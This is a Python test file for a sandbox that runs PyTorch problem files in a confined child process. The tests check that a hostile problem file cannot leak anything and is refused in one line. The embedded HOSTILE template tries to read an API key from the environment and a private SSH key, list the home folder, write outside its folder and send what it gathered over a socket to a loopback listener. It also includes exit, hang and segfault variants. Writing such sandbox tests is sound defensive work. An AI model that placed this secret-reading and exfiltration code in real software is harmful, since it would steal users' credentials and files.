"""Problem code runs only in a confined child: a hostile problem file cannot read the user's keys or files, write
outside its private folder or reach the network, and whatever it does (exit, hang, print, raise, crash) ends as
one line naming it, exit code 2, and nothing imported."""

from __future__ import annotations

import os
import socket
import subprocess
import sys
import threading
from pathlib import Path

import pytest

pytest.importorskip("torch")

from sandbox.pytorch import confined  # noqa: E402
from sandbox.pytorch.problem import ProblemError  # noqa: E402

ROOT = Path(__file__).resolve().parent.parent
pytestmark = pytest.mark.timeout(300)
KEY = "sk-test-0123456789abcdef"
SECRET = "BEGIN-PRIVATE-KEY-do-not-leak"


@pytest.fixture(scope="module", autouse=True)
def confined_session():
    """One confined process for the module's imports and check-task runs: torch is imported once, not per call."""
    with confined.Session() as session:
        yield session


HOSTILE = '''import os, socket, sys, time
import torch
import torch.nn as nn

seen = []
try:
    seen.append("key=" + os.environ["OPENAI_API_KEY"])
except Exception as e:
    seen.append("key:" + type(e).__name__)
try:
    seen.append("ssh=" + open({secret!r}).read())
except Exception as e:
    seen.append("ssh:" + type(e).__name__)
try:
    seen.append("home=" + ",".join(os.listdir({home!r})))
except Exception as e:
    seen.append("home:" + type(e).__name__)
try:
    with open({outside!r} + "/{stem}", "w") as f:
        f.write(" ".join(seen))
except Exception as e:
    seen.append("write:" + type(e).__name__)
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(" ".join(seen).encode())
except Exception as e:
    seen.append("net:" + type(e).__name__)
{action}

class Model(nn.Module):
    def forward(self, x):
        return x * 2

n = 64

def get_inputs():
    return [torch.randn(n)]

def get_init_inputs():
    return []
'''

ACTIONS = {"a_raises": 'raise RuntimeError(" ".join(seen))', "b_exits": "sys.exit(0)", "c_exits_hard": "os._exit(0)",
           "d_hangs": "time.sleep(10**6)", "e_prints": 'print("hello from the problem")',
           "f_crashes": "import ctypes; ctypes.string_at(0)"}


class Listener:
    """A TCP server on the loopback that records every connection made to it."""

    def __init__(self):
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.sock.settimeout(0.5)
        self.port = self.sock.getsockname()[1]
        self.connections, self._stop = [], threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections.append(conn.recv(4096))
            conn.close()

    def close(self):
        self._stop.set()
        self.thread.join(5)
        self.sock.close()


@pytest.fixture
def hostile(tmp_path):
    secret = tmp_path / "home" / ".ssh" / "id_ed25519"
    secret.parent.mkdir(parents=True)
    secret.write_text(SECRET)
    outside = tmp_path / "outside"
    outside.mkdir()
    listener = Listener()
    folder = tmp_path / "problems"
    folder.mkdir()
    for stem, action in ACTIONS.items():
        (folder / f"{stem}.py").write_text(HOSTILE.format(secret=str(secret), outside=str(outside), stem=stem,
                                                          port=listener.port, action=action, home=str(Path.home())))
    yield folder, outside, listener
    listener.close()


def test_a_hostile_problem_is_refused_in_one_line_and_none_of_its_effects_happen(tmp_path, hostile):
    folder, outside, listener = hostile
    env = {**os.environ, "OPENAI_API_KEY": KEY, "COLUMNS": "300", "KERNELWRIGHT_CACHE_DIR": str(tmp_path / "cache")}
    # a connection from this process still reaches the listener: a refused one below is the confinement's doing
    socket.create_connection(("127.0.0.1", listener.port), timeout=3).close()
    out = subprocess.run([sys.executable, "-m", "agent", "import", folder, "-o", tmp_path / "tasks", "--deadline", "15"],
                         capture_output=True, text=True, timeout=280, cwd=ROOT, env=env)
    text = out.stdout + out.stderr
    assert out.returncode == 2, text
    assert "Traceback" not in text and KEY not in text and SECRET not in text
    errors = [line for line in out.stderr.splitlines() if line.strip()]
    assert len(errors) == len(ACTIONS), errors
    by_stem = {stem: next(line for line in errors if f"{stem}.py" in line) for stem in ACTIONS}
    # the problem ran, and every one of its attempts failed
    assert "key:KeyError" in by_stem["a_raises"] and "ssh:PermissionError" in by_stem["a_raises"]
    assert "write:PermissionError" in by_stem["a_raises"] and "net:" in by_stem["a_raises"]
    assert "home:PermissionError" in by_stem["a_raises"]  # the user's real home folder cannot even be listed
    assert "sys.exit(0)" in by_stem["b_exits"]
    assert "exited (code 0) before it finished" in by_stem["c_exits_hard"]
    assert "ran past its 15 s deadline" in by_stem["d_hangs"]
    assert "printed 'hello from the problem'" in by_stem["e_prints"]
    assert "crashed (SIGSEGV)" in by_stem["f_crashes"]
    assert f"0 of {len(ACTIONS)} problems imported, {len(ACTIONS)} refused" in out.stdout
    assert sum(line.startswith("  refused: ") for line in out.stdout.splitlines()) == len(ACTIONS)
    assert list(outside.iterdir()) == [] and len(listener.connections) == 1
    assert not (tmp_path / "tasks").exists() or list((tmp_path / "tasks").iterdir()) == []


def test_the_confined_call_returns_what_the_function_returned_and_refusals_keep_their_message(tmp_path):
    ok = confined.call("sandbox.tasks.dtypes:itemsize", "float16", label="x.py")
    assert ok.result == 2 and ok.confinement.get("network")
    bad = tmp_path / "bad.py"
    with pytest.raises(ProblemError, match="bad.py: no get_inputs"):
        confined.call("sandbox.pytorch.importer:survey", "import torch\nclass Model(torch.nn.Module):\n    pass\n",
                      str(bad), "bad", label=str(bad))


def test_importing_does_not_execute_the_problem_in_the_calling_process(tmp_path):
    from sandbox.pytorch.importer import import_problem

    marker = tmp_path / "ran"
    body = HOSTILE.format(secret="/nonexistent", outside=str(tmp_path), stem="ran", port=1, action="", home="/")
    problem = tmp_path / "p.py"
    problem.write_text(body)
    before = set(sys.modules)
    done = import_problem(problem, tmp_path / "tasks")
    assert done.folder.is_dir() and not marker.exists()
    assert not any(m.startswith("kernelwright_problem_") for m in set(sys.modules) - before)


def test_check_task_runs_problem_code_confined_and_a_misbehaving_problem_is_one_line_exit_2(tmp_path):
    from sandbox.pytorch.importer import import_problem

    folder = import_problem(ROOT / "tests" / "fixtures" / "kernelbench" / "1_swish_clamp.py", tmp_path / "t").folder
    env = {**os.environ, "COLUMNS": "300", "KERNELWRIGHT_CACHE_DIR": str(tmp_path / "cache")}
    run = lambda: subprocess.run([sys.executable, "-m", "agent", "check-task", folder], capture_output=True, text=True,
                                 timeout=200, cwd=ROOT, env=env)
    good = run()
    assert good.returncode == 0 and "reference check[2]#0" in good.stdout, good.stdout + good.stderr
    source = (folder / "problem.py").read_text()
    (folder / "problem.py").write_text("import sys\n" + source + "\nsys.exit(0)\n")
    bad = run()
    assert bad.returncode == 2 and "Traceback" not in bad.stdout + bad.stderr
    assert bad.stderr.strip().count("\n") == 0 and "problem.py: it called sys.exit(0)" in bad.stderr
